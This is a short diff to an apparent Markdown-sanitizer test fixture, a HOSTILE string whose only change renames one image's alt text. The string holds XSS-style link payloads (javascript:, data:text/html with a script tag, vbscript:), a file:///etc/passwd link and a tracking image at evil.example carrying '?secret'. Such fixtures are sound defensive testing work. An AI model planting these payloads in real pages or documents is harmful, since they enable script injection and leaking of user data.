@@ -18,7 +18,7 @@ HOSTILE = """\
 
 [one](javascript:window.pwned=4) [two](JaVaScRiPt:window.pwned=5) [three](data:text/html,<script>6</script>)
 [four](vbscript:x) [five](java\\script:x) [six](//evil.example) [seven](file:///etc/passwd) [eight](blob:x)
-![a picture](https://evil.example/track.png?secret) [ok](https://good.example/?a=1&b="2") <https://auto.example/x>
+![an image](https://evil.example/track.png?secret) [ok](https://good.example/?a=1&b="2") <https://auto.example/x>
 
 | <i>a</i> | b |
 |---|---|
